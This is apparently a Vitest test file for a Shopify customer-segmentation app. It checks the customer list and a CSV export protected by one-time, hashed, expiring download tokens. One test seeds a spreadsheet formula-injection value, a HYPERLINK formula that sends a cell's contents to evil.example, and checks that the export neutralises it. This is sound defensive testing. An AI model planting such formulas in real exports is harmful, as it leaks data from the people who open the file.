import { createHash } from "node:crypto";
import { beforeEach, describe, expect, it } from "vitest";
import { seedCustomer } from "~/dashboard/test/seed";
import { loader as listLoader } from "~/routes/app.customers._index";
import { action as exportAction, loader as exportLoader } from "~/routes/app.customers.export";
import { services } from "~/services.server";
import { addShop, appRequest, args, BROWSER, documentRequest, resetDatabase, run, storeOfflineSession } from "./support";

const ALPHA = "alpha.myshopify.com";
const BETA = "beta.myshopify.com";
let alpha = "";
let beta = "";

beforeEach(async () => {
  await resetDatabase();
  alpha = await addShop(ALPHA);
  beta = await addShop(BETA);
  await storeOfflineSession(ALPHA);
  await storeOfflineSession(BETA);
  const { db } = services();
  for (let i = 1; i <= 5; i++) {
    await seedCustomer(db, alpha, {
      customerKey: `gid://shopify/Customer/${i}`,
      email: `a${i}@example.com`,
      persona: i <= 2 ? "champions" : "lost",
      previousPersona: i === 1 ? "loyal" : null,
      r: i <= 2 ? 5 : 1,
      f: i <= 2 ? 5 : 1,
      m: i <= 2 ? 5 : 1,
      monetaryMinor: i * 1000,
    });
  }
  await seedCustomer(db, alpha, { customerKey: "email:guest@example.com", email: "guest@example.com", persona: "lost", r: 1, f: 1, m: 1 });
  await seedCustomer(db, beta, { customerKey: "gid://shopify/Customer/99", email: "beta@example.com", persona: "champions", r: 5, f: 5, m: 5 });
});

const list = async (shop: string, query = "") => run(async () => listLoader(args(await appRequest(`/app/customers${query}`, shop))));

describe("GET /app/customers", () => {
  it("GIVEN no session WHEN a browser opens it THEN it is sent to log in", async () => {
    const out = await run(() => listLoader(args(new Request("https://rfm.test/app/customers", { headers: { "User-Agent": BROWSER } }))));

    expect(out.status).toBe(302);
  });

  it("GIVEN two shops WHEN listed THEN only the requesting shop's customers appear", async () => {
    const out = await list(ALPHA);

    expect(out.status).toBe(200);
    expect(out.data.total).toBe(6);
    expect(out.data.rows.map((r: { email: string }) => r.email)).not.toContain("beta@example.com");
    expect(out.data.rows[0]).toMatchObject({ customerKey: "gid://shopify/Customer/5", adminUrl: "shopify://admin/customers/5" });
  });

  it("GIVEN a cell of the dashboard grid WHEN followed THEN the list is filtered to it", async () => {
    const out = await list(ALPHA, "?r=5&f=5");

    expect(out.data.total).toBe(2);
    expect(out.data.filters).toMatchObject({ r: 5, f: 5, m: null });
  });

  it("GIVEN persona, search, sort and paging WHEN listed THEN they combine", async () => {
    const first = await list(ALPHA, "?persona=lost&sort=monetary&dir=asc&limit=2");
    const next = await list(ALPHA, `?persona=lost&sort=monetary&dir=asc&limit=2&after=${first.data.nextCursor}`);
    const search = await list(ALPHA, "?q=GUEST");

    expect(first.data.rows.map((r: { monetaryMinor: number }) => r.monetaryMinor)).toEqual([0, 3000]);
    expect(next.data.rows.map((r: { monetaryMinor: number }) => r.monetaryMinor)).toEqual([4000, 5000]);
    expect(search.data.rows).toHaveLength(1);
    expect(search.data.rows[0]).toMatchObject({ guest: true, adminUrl: null });
  });

  it("GIVEN bad query parameters WHEN listed THEN 400 names each one", async () => {
    const out = await list(ALPHA, "?r=7&sort=name&rMin=4&rMax=2&after=%%%");

    expect(out.status).toBe(400);
    expect(Object.keys(out.data.errors)).toEqual(expect.arrayContaining(["r", "sort"]));
    expect((await list(ALPHA, "?rMin=4&rMax=2")).data.errors).toEqual({ rMin: "rMin must not exceed rMax" });
    expect((await list(ALPHA, "?persona=Not%20A%20Slug")).status).toBe(400);
    expect((await list(ALPHA, "?after=garbage")).data.errors).toEqual({ after: "is not a valid page cursor" });
  });
});

describe("CSV export", () => {
  const mint = async (shop: string, query = "") =>
    run(async () => exportAction(args(await appRequest(`/app/customers/export${query}`, shop, { method: "POST" }))));
  const download = (url: string, init: RequestInit = {}) =>
    run(() => exportLoader(args(new Request(new URL(url, "https://rfm.test"), { headers: { "User-Agent": BROWSER }, ...init }))));
  const linkFor = async (shop: string, query = "") => {
    const minted = await mint(shop, query);
    expect(minted.status).toBe(200);
    return minted.data.url as string;
  };
  const rowsOf = async (out: Awaited<ReturnType<typeof download>>) => (await out.response!.text()).trimEnd().split("\r\n");

  it("GIVEN no session or a forged one WHEN an export is requested THEN no download link is made", async () => {
    const forged = await run(() =>
      exportAction(args(new Request("https://rfm.test/app/customers/export", { method: "POST", headers: { Authorization: "Bearer a.b.c" } }))),
    );

    expect(forged.status).toBe(401);
    expect(await services().db.prepare(`SELECT count(*) FROM "DownloadToken"`).pluck().get()).toBe(0);
  });

  it("GIVEN Export CSV WHEN the link is made THEN its URL holds a one-time token and no session token, and only the token's hash is stored", async () => {
    const request = await appRequest("/app/customers/export", ALPHA, { method: "POST" });
    const sessionToken = request.headers.get("Authorization")!.replace("Bearer ", "");

    const out = await run(() => exportAction(args(request)));

    expect(out.status).toBe(200);
    expect(out.headers.get("Cache-Control")).toBe("no-store");
    const url = new URL(out.data.url, "https://rfm.test");
    expect(url.pathname).toBe("/app/customers/export");
    expect([...url.searchParams.keys()]).toEqual(["token"]);
    expect(out.data.url).not.toContain(sessionToken);
    expect(out.data.url).not.toContain("id_token");
    const token = url.searchParams.get("token")!;
    expect(token).toMatch(/^[A-Za-z0-9_-]{43}$/); // 256 random bits
    const stored = await services().db.prepare(`SELECT tokenHash, shopId, purpose, expiresAt, usedAt FROM "DownloadToken"`).all() as {
      tokenHash: string;
      expiresAt: number;
    }[];
    expect(stored).toEqual([
      { tokenHash: createHash("sha256").update(token).digest("hex"), shopId: alpha, purpose: "customers-csv", expiresAt: expect.any(Number), usedAt: null },
    ]);
    expect(stored[0].expiresAt - Date.now()).toBeLessThanOrEqual(60_000);
  });

  it("GIVEN a download link WHEN opened THEN a CSV attachment of this shop's customers streams back, once", async () => {
    const url = await linkFor(ALPHA);

    const first = await download(url);
    const second = await download(url);

    expect(first.status).toBe(200);
    expect(first.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(first.headers.get("Content-Disposition")).toMatch(/^attachment; filename="rfm-customers-alpha-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(first.response!.body).toBeInstanceOf(ReadableStream);
    const lines = await rowsOf(first);
    expect(lines).toHaveLength(1 + 6);
    expect(lines.join("\n")).not.toContain("beta@example.com");
    expect(lines.find((l) => l.startsWith("gid://shopify/Customer/1,"))).toContain(",champions,Champions,loyal,");
    expect(second.status).toBe(410);
    expect(await second.response!.text()).toMatch(/already been used/);
  });

  it("GIVEN a download link a minute old WHEN opened THEN it is refused as expired", async () => {
    const url = await linkFor(ALPHA);
    // The minute passes (the stored expiry is what the server checks).
    await services().db.prepare(`UPDATE "DownloadToken" SET expiresAt = ?`).run(new Date(Date.now() - 1));

    const out = await download(url);

    expect(out.status).toBe(410);
    expect(await out.response!.text()).toMatch(/expired/);
  });

  it("GIVEN a link made for one shop WHEN presented for another THEN it is refused and never yields the other shop's customers", async () => {
    const url = await linkFor(ALPHA);
    const forBeta = `${url}&shop=${BETA}`;

    const out = await download(forBeta);
    const again = await download(url);

    expect(out.status).toBe(403);
    expect(again.status).toBe(410); // a token presented with the wrong shop is spent, not left for a retry
    // A made-up token is nobody's.
    expect((await download("/app/customers/export?token=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")).status).toBe(403);
    // And a shop that uninstalled after the link was made gets nothing.
    const late = await linkFor(BETA);
    await services().db.prepare(`UPDATE "Shop" SET uninstalledAt = ? WHERE id = ?`).run(new Date(), beta);
    expect((await download(late)).status).toBe(403);
  });

  it("GIVEN the old link form with a session token in the URL WHEN opened THEN no file comes back", async () => {
    const out = await run(async () => exportLoader(args(await documentRequest("/app/customers/export", ALPHA))));

    expect(out.status).toBe(400);
    expect(out.headers.get("Content-Type")).toMatch(/^text\/plain/);
  });

  it("GIVEN the list's filters WHEN exported THEN the file holds the same customers, whatever the link's query says", async () => {
    const url = await linkFor(ALPHA, "?persona=champions&sort=monetary");

    const out = await download(`${url}&persona=lost`);

    const rows = (await rowsOf(out)).slice(1);
    expect(rows.map((l) => l.split(",")[0])).toEqual(["gid://shopify/Customer/1", "gid://shopify/Customer/2"]);
  });

  it("GIVEN a bad filter WHEN an export is requested THEN 400 names it and no link is made", async () => {
    const out = await mint(ALPHA, "?m=0");

    expect(out.status).toBe(400);
    expect(out.data.errors).toEqual({ m: "scores run 1–5" });
    expect(await services().db.prepare(`SELECT count(*) FROM "DownloadToken"`).pluck().get()).toBe(0);
  });

  it("GIVEN customer data a spreadsheet would run WHEN exported THEN those cells are neutralised and negative money stays a number", async () => {
    const { db } = services();
    // A control character before the formula (NUL where the engine can store it; PostgreSQL's text cannot).
    const control = db.dialect === "sqlite" ? "\u0000" : "\u0001";
    await seedCustomer(db, alpha, { customerKey: "email:x@example.com", email: ` ${control}=HYPERLINK("http://evil.example/"&A1)`, persona: "lost", monetaryMinor: -1250, r: 1, f: 1, m: 1 });
    await seedCustomer(db, alpha, { customerKey: "email:y@example.com", email: "\t@SUM(1+1)", persona: "lost", r: 1, f: 1, m: 1 });

    const text = await (await download(await linkFor(ALPHA, "?q=example.com"))).response!.text();

    expect(text).toContain(`email:x@example.com,,,"' ${control}=HYPERLINK(""http://evil.example/""&A1)",true,lost,Lost,`);
    expect(text).toContain(",-12.50,USD,");
    expect(text).toContain("email:y@example.com,,,'\t@SUM(1+1),true,");
  });

  it("GIVEN a large shop WHEN its CSV is downloaded THEN the event loop keeps turning between pages", async () => {
    const { db } = services();
    // One customer seeded, 19,999 more copied from it in one statement (row by row is slow on PostgreSQL).
    await seedCustomer(db, alpha, { customerKey: "gid://shopify/Customer/100000", email: "c0@example.com", persona: "lost" });
    const copied = "shopId, guest, recencyDays, frequency, monetaryMinor, firstOrderAt, lastOrderAt, r, f, m, persona, previousPersona, personaSince, scoredAt, writeStatus";
    await db
      .prepare(
        `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 19999)
         INSERT INTO "Customer" (customerKey, email, ${copied})
         SELECT 'gid://shopify/Customer/' || (100000 + i), 'c' || i || '@example.com', ${copied} FROM n, "Customer" WHERE shopId = ? AND customerKey = ?`,
      )
      .run(alpha, "gid://shopify/Customer/100000");
    const out = await download(await linkFor(ALPHA));
    // Counts turns of the event loop (one check phase each) while the body is read as fast as possible.
    let turns = 0;
    let reading = true;
    const beat = () => {
      if (!reading) return;
      turns++;
      setImmediate(beat);
    };
    setImmediate(beat);

    const lines = await rowsOf(out);
    reading = false;

    expect(lines).toHaveLength(1 + 6 + 20_000);
    // 11 pages of up to 2,000 rows, each after a turn of the loop (read in one go, the loop would not turn at all).
    expect(turns).toBeGreaterThanOrEqual(5);
  }, 120_000); // 20,000 rows seeded and read: room on a loaded machine (a bound, not a speed goal)
});
